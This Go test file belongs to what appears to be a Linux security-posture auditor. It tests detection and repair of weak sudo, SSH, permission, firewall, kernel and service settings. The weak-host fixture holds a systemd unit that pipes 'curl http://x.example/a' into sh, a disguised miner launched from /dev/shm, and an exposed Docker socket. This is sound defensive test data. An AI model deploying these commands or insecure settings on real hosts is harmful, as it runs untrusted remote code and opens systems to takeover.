package linux

import (
	"context"
	"io/fs"
	"slices"
	"strings"
	"syscall"
	"testing"
	"testing/fstest"
	"time"

	"github.com/minewarden/minewarden"
	"github.com/minewarden/minewarden/internal/shady"
	"github.com/minewarden/minewarden/posture/repair"
)

func file(text string, mode fs.FileMode, uid, gid uint32) *fstest.MapFile {
	return &fstest.MapFile{Data: []byte(text), Mode: mode, Sys: &syscall.Stat_t{Uid: uid, Gid: gid}}
}

func dir(mode fs.FileMode, uid, gid uint32) *fstest.MapFile {
	return &fstest.MapFile{Mode: fs.ModeDir | mode, Sys: &syscall.Stat_t{Uid: uid, Gid: gid}}
}

func newAuditor() *auditor {
	return &auditor{
		now: func() time.Time { return time.Unix(1700000000, 0) }, judge: shady.New(), rules: rules(),
		ruleset: func(context.Context, fs.FS) (string, error) { return "", fs.ErrNotExist },
	}
}

func look(t testing.TB, root fs.FS) minewarden.Verdict {
	t.Helper()
	v, err := newAuditor().Audit(context.Background(), minewarden.Target{Kind: minewarden.TargetHost, Name: "host", Root: root})
	if err != nil {
		t.Fatal(err)
	}
	return v
}

func status(v minewarden.Verdict) map[string]minewarden.Status {
	out := map[string]minewarden.Status{}
	for _, c := range v.Checks {
		if out[c.Rule] == "" || c.Finding != nil {
			out[c.Rule] = c.Status
		}
	}
	return out
}

// weak is a host where everything is wrong.
func weak() fstest.MapFS {
	return fstest.MapFS{
		"etc/passwd":                                file("root:x:0:0::/root:/bin/sh\nann:x:1000:1000::/home/ann:/bin/sh\nbob:x:1001:999::/home/bob:/bin/sh\n", 0o644, 0, 0),
		"etc/group":                                 file("root:x:0:\ndocker:x:999:ann\n", 0o644, 0, 0),
		"etc/sudoers":                               file("root ALL=(ALL:ALL) ALL\n%ops ALL=(ALL) NOPASSWD: /usr/bin/id, \\\n  ALL\n", 0o440, 0, 0),
		"etc/sudoers.d/ci":                          file("ci ALL=(ALL) NOPASSWD:ALL\n", 0o666, 0, 0),
		"etc/sudoers.d/not.read":                    file("x ALL=(ALL) NOPASSWD:ALL\n", 0o440, 0, 0),
		"etc/ssh/sshd_config":                       file("Include /etc/ssh/sshd_config.d/*.conf\nPasswordAuthentication no\nPermitRootLogin yes\nMatch User backup\n  PasswordAuthentication yes\n", 0o644, 0, 0),
		"etc/ssh/sshd_config.d/50-cloud.conf":       file("PasswordAuthentication yes\nPermitEmptyPasswords yes\n", 0o644, 0, 0),
		"home/ann":                                  dir(0o755, 1000, 1000),
		"home/ann/.ssh":                             dir(0o755, 1000, 1000),
		"home/ann/.ssh/authorized_keys":             file("ssh-ed25519 A\n", 0o666, 1000, 1000),
		"home/bob":                                  dir(0o755, 1001, 999),
		"home/bob/.ssh":                             dir(0o700, 1001, 999),
		"home/bob/.ssh/authorized_keys":             file("ssh-ed25519 A\n", 0o600, 1000, 1000),
		"etc/systemd/system/a.service":              file("[Service]\nExecStart=/dev/shm/kworker --donate-level 1\n", 0o666, 0, 0),
		"etc/systemd/system/b.service":              file("[Service]\nExecStart=/bin/sh -c 'curl http://x.example/a | sh'\n", 0o644, 0, 0),
		"etc/systemd/system/c.service":              file("[Service]\nExecStart=/usr/bin/consul agent \\\n  -enable-script-checks -client 0.0.0.0\n", 0o644, 0, 0),
		"etc/cron.d/job":                            file("* * * * * root true\n", 0o664, 0, 50),
		"proc/sys/kernel/yama/ptrace_scope":         file("0\n", 0o644, 0, 0),
		"proc/sys/kernel/unprivileged_bpf_disabled": file("0\n", 0o644, 0, 0),
		"proc/sys/user/max_user_namespaces":         file("1234\n", 0o644, 0, 0),
		"proc/1/mounts":                             file("tmpfs /dev/shm tmpfs rw,nosuid 0 0\ntmpfs /tmp tmpfs rw,nosuid,noexec 0 0\n", 0o444, 0, 0),
		"var/tmp/x":                                 file("", 0o644, 0, 0),
		"etc/nftables.conf":                         file("table inet f {\n chain i {\n  type filter hook input priority 0; policy accept;\n }\n}\n", 0o644, 0, 0),
		"etc/systemd/journald.conf":                 file("[Journal]\n", 0o644, 0, 0),
		"etc/apt/apt.conf.d/20auto-upgrades":        file("APT::Periodic::Unattended-Upgrade \"0\";\n", 0o644, 0, 0),
		"proc/1/net/tcp":                            file("   0: 00000000:0947 00000000:0000 0A\n   1: 0100007F:1F90 00000000:0000 0A\n   2: 00000000:0016 00000000:0000 0A\n", 0o444, 0, 0),
		"proc/77/cmdline":                           file("/usr/bin/dockerd\x00-H\x00tcp://0.0.0.0:2375\x00", 0o444, 0, 0),
		"proc/78/cmdline":                           file("vim\x00consul\x00-dev\x00", 0o444, 0, 0),
	}
}

func hard() fstest.MapFS {
	return fstest.MapFS{
		"etc/passwd":                                file("root:x:0:0::/root:/bin/sh\nann:x:1000:1000::/home/ann:/bin/sh\n", 0o644, 0, 0),
		"etc/group":                                 file("docker:x:999:\n", 0o644, 0, 0),
		"etc/sudoers":                               file("Defaults env_reset\nroot ALL=(ALL:ALL) NOPASSWD: ALL\n%sudo ALL=(ALL:ALL) ALL\ndeploy ALL=(root) NOPASSWD: /usr/bin/systemctl restart web\n", 0o440, 0, 0),
		"etc/ssh/sshd_config":                       file("PasswordAuthentication no\nKbdInteractiveAuthentication no\nUsePAM yes\nPermitRootLogin no\n", 0o644, 0, 0),
		"home/ann":                                  dir(0o755, 1000, 1000),
		"home/ann/.ssh":                             dir(0o700, 1000, 1000),
		"home/ann/.ssh/authorized_keys":             file("k\n", 0o600, 1000, 1000),
		"etc/systemd/system/a.service":              file("[Service]\nExecStart=/usr/bin/nginx\n", 0o644, 0, 0),
		"etc/cron.d/job":                            file("* * * * * root true\n", 0o644, 0, 0),
		"var/spool/cron/crontabs":                   dir(fs.ModeSticky|0o730, 0, 104),
		"var/spool/cron/crontabs/ann":               file("x\n", 0o600, 1000, 104),
		"proc/sys/kernel/yama/ptrace_scope":         file("1\n", 0o644, 0, 0),
		"proc/sys/kernel/unprivileged_bpf_disabled": file("2\n", 0o644, 0, 0),
		"proc/sys/user/max_user_namespaces":         file("0\n", 0o644, 0, 0),
		"proc/1/mounts":                             file("t /dev/shm tmpfs rw,nosuid,noexec 0 0\nt /tmp tmpfs rw,nosuid,noexec 0 0\nt /var/tmp tmpfs noexec,nosuid 0 0\n", 0o444, 0, 0),
		"etc/iptables/rules.v4":                     file("*filter\n:INPUT DROP [0:0]\n:OUTPUT ACCEPT [0:0]\n-A OUTPUT -p tcp -m multiport --dports 3333,4444,5555,7777,14400:14500 -j REJECT\nCOMMIT\n", 0o644, 0, 0),
		"etc/systemd/journald.conf":                 file("[Journal]\nStorage=persistent\n", 0o644, 0, 0),
		"etc/audit/auditd.conf":                     file("x\n", 0o640, 0, 0),
		"etc/apt/apt.conf.d/20auto":                 file("APT::Periodic::Unattended-Upgrade \"1\";\n", 0o644, 0, 0),
		"usr/bin/unattended-upgrade":                file("x", 0o755, 0, 0),
		"proc/1/net/tcp":                            file("   1: 0100007F:1F90 00000000:0000 0A\n", 0o444, 0, 0),
		"proc/77/cmdline":                           file("/usr/bin/dockerd\x00-H\x00fd://\x00", 0o444, 0, 0),
	}
}

func TestWeakHostFailsEverything(t *testing.T) {
	v := look(t, weak())
	got := status(v)
	for _, r := range rules() {
		if got[r.ID] != minewarden.StatusFail && got[r.ID] != minewarden.StatusPossible {
			t.Errorf("%s: %s", r.ID, got[r.ID])
		}
	}
	count := map[string]int{}
	for _, f := range v.Findings() {
		count[f.Rule]++
	}
	for rule, want := range map[string]int{ruleDockerGroup: 2, ruleSudoAll: 2, ruleSudoWritable: 1, ruleSSHPassword: 2, ruleKeys: 2, ruleFlags: 2, ruleControlPorts: 1, ruleListening: 1, ruleTmpExec: 2} {
		if count[rule] != want {
			t.Errorf("%s: %d findings, want %d", rule, count[rule], want)
		}
	}
}

func TestHardHostPassesEverything(t *testing.T) {
	v := look(t, hard())
	for _, c := range v.Checks {
		if c.Status != minewarden.StatusPass && c.Status != minewarden.StatusNotApplicable {
			t.Errorf("%s: %s: %s", c.Rule, c.Status, c.Proof)
		}
	}
	got := status(v)
	for _, r := range rules() {
		if got[r.ID] == "" {
			t.Errorf("%s: nothing said", r.ID)
		}
	}
}

func TestCouldNotLookIsNoPass(t *testing.T) {
	got := status(look(t, fstest.MapFS{"etc/hostname": file("x\n", 0o644, 0, 0)}))
	for _, r := range []string{rulePtrace, ruleBPF, ruleUserns, ruleTmpExec, ruleFirewallIn, ruleFirewallOut, ruleControlPorts, ruleFlags, ruleKeys, ruleDockerGroup, ruleUpdates} {
		if got[r] != minewarden.StatusUnknown {
			t.Errorf("%s: %s, want unknown", r, got[r])
		}
	}
}

// TestRepairs applies what the weak host's checks carry, and looks again.
func TestRepairs(t *testing.T) {
	m := weak()
	var repaired []string
	edits := map[string][]minewarden.Edit{}
	for _, c := range look(t, m).Checks {
		if c.Repair == nil || len(c.Repair.Edits) == 0 {
			continue
		}
		repaired = append(repaired, c.Rule)
		for _, e := range c.Repair.Edits {
			if e.Format == minewarden.FormatMode {
				m[e.Path].Mode = m[e.Path].Mode&^0o777 | 0o400
			} else {
				edits[e.Path] = append(edits[e.Path], e)
			}
		}
	}
	for name, es := range edits {
		var data []byte
		if f := m[name]; f != nil {
			data = f.Data
		}
		out, err := repair.Apply(data, es)
		if err != nil {
			t.Fatalf("%s: %v", name, err)
		}
		m[name] = file(string(out), 0o644, 0, 0)
	}
	for name := range m { // a running kernel takes the new values at the next start: read the files, as of an image
		if strings.HasPrefix(name, "proc/sys") {
			delete(m, name)
		}
	}
	after := status(look(t, m))
	for _, want := range []string{ruleSSHRoot, ruleSSHEmpty, rulePtrace, ruleBPF, ruleUserns, ruleJournal, ruleSudoWritable, ruleServiceFiles, ruleCronFiles} {
		if !slices.Contains(repaired, want) {
			t.Errorf("%s has no repair", want)
		}
		if after[want] != minewarden.StatusPass {
			t.Errorf("%s after its repair: %s", want, after[want])
		}
	}
}

func TestSSHTraps(t *testing.T) {
	for _, tc := range []struct {
		name, conf string
		want       map[string]minewarden.Status
	}{
		{"the first value counts", "PasswordAuthentication no\nKbdInteractiveAuthentication no\nPasswordAuthentication yes\n", map[string]minewarden.Status{ruleSSHPassword: minewarden.StatusPass}},
		{"PAM still asks", "PasswordAuthentication no\nUsePAM yes\n", map[string]minewarden.Status{ruleSSHPassword: minewarden.StatusPossible}},
		{"default is yes", "UsePAM no\n", map[string]minewarden.Status{ruleSSHPassword: minewarden.StatusFail, ruleSSHRoot: minewarden.StatusPass}},
		{"only in a Match", "PasswordAuthentication no\nMatch Address 10.0.0.0/8\nPermitRootLogin yes\n", map[string]minewarden.Status{ruleSSHRoot: minewarden.StatusPossible, ruleSSHPassword: minewarden.StatusPass}},
		{"Match all is everybody", "Match all\nPermitRootLogin yes\n", map[string]minewarden.Status{ruleSSHRoot: minewarden.StatusFail}},
		{"equals and quotes", "PermitRootLogin=\"yes\"\nPasswordAuthentication = no\n", map[string]minewarden.Status{ruleSSHRoot: minewarden.StatusFail, ruleSSHPassword: minewarden.StatusPass}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			v, err := newAuditor().Audit(context.Background(), minewarden.Target{Kind: minewarden.TargetFile, Path: "x/sshd_config", Data: []byte(tc.conf)})
			if err != nil {
				t.Fatal(err)
			}
			got := status(v)
			for rule, want := range tc.want {
				if got[rule] != want {
					t.Errorf("%s: %s, want %s", rule, got[rule], want)
				}
			}
		})
	}
}

func TestGrantsAll(t *testing.T) {
	for line, want := range map[string]bool{
		"u ALL=(ALL) NOPASSWD: ALL":                         true,
		"u ALL=NOPASSWD:ALL":                                true,
		"u ALL=(ALL:ALL) NOPASSWD: SETENV: ALL":             true,
		"u ALL=(ALL) NOPASSWD: /bin/ls, PASSWD: ALL":        false,
		"u ALL=(ALL) NOPASSWD: /bin/ls, /bin/bash":          true,
		"u ALL=(ALL) ALL":                                   false,
		"u ALL=(ALL) NOPASSWD: /usr/bin/apt-get update":     false,
		"u ALL=(ALL) PASSWD: ALL, NOPASSWD: /bin/systemctl": false,
	} {
		if got := grantsAll(line); got != want {
			t.Errorf("%s: %v", line, got)
		}
	}
}

func TestFirewalls(t *testing.T) {
	for name, tc := range map[string]struct {
		fw      *firewall
		in      bool
		blocked int
	}{
		"nft drop":        {parseNftText("", "table inet f {\n chain input {\n type filter hook input priority 0; policy drop;\n }\n chain output {\n type filter hook output priority 0; policy accept;\n tcp dport { 3333, 4444, 5000-8000 } reject\n }\n}"), true, 4},
		"nft last rule":   {parseNftText("", "chain input {\n type filter hook input priority 0; policy accept;\n tcp dport 22 accept\n drop\n }\n"), true, 0},
		"iptables rule":   {parseIptables("", "*filter\n:INPUT ACCEPT [0:0]\n-A INPUT -p tcp --dport 22 -j ACCEPT\n-A INPUT -j REJECT --reject-with icmp-host-prohibited\n-A OUTPUT -p tcp --dport 3333 -j DROP\n"), true, 1},
		"iptables nat":    {parseIptables("", "*nat\n:INPUT DROP [0:0]\n"), false, 0},
		"iptables accept": {parseIptables("", "*filter\n:INPUT ACCEPT [0:0]\n-A INPUT -s 1.2.3.4 -j DROP\n"), false, 0},
	} {
		if got := tc.fw.in == "drop" || tc.fw.inRules; got != tc.in {
			t.Errorf("%s: input refused %v", name, got)
		}
		if len(tc.fw.blocked) != tc.blocked {
			t.Errorf("%s: blocked %v", name, tc.fw.blocked)
		}
	}
}

func FuzzText(f *testing.F) {
	f.Add([]byte("Match all\nInclude x\nPermitRootLogin yes\n"))
	f.Add([]byte("u ALL=(ALL) NOPASSWD: ALL, \\\n x\n"))
	f.Add([]byte("*filter\n:INPUT DROP\n-A OUTPUT --dport 1:2 -j DROP\n"))
	f.Fuzz(func(t *testing.T, data []byte) {
		m := weak()
		for _, n := range []string{"etc/ssh/sshd_config", "etc/sudoers", "etc/nftables.conf", "proc/1/net/tcp", "etc/group", "etc/passwd", "etc/systemd/system/c.service", "proc/1/mounts", "etc/sysctl.conf"} {
			m[n] = file(string(data), 0o644, 0, 0)
		}
		look(t, m)
		parseIptables("", string(data))
		if _, err := parseNftJSON(data); err != nil {
			return
		}
	})
}
